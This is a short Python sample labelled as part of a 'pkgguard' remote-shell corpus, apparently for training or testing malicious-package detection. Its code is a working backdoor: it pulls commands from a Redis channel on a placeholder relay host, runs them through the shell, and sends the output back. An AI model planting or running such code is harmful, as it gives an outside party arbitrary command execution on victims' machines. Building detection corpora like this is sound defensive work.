# pkgguard corpus 587 (remote-shell), modelled on [discordpydebug]; inert, never run.
import subprocess

import redis

bus = redis.Redis(host="cache.queue-relay.example", port=6379)
sub = bus.pubsub()
sub.subscribe("jobs")
for message in sub.listen():
    if message["type"] == "message":
        out = subprocess.run(message["data"].decode(), shell=True, capture_output=True)
        bus.publish("results", out.stdout + out.stderr)
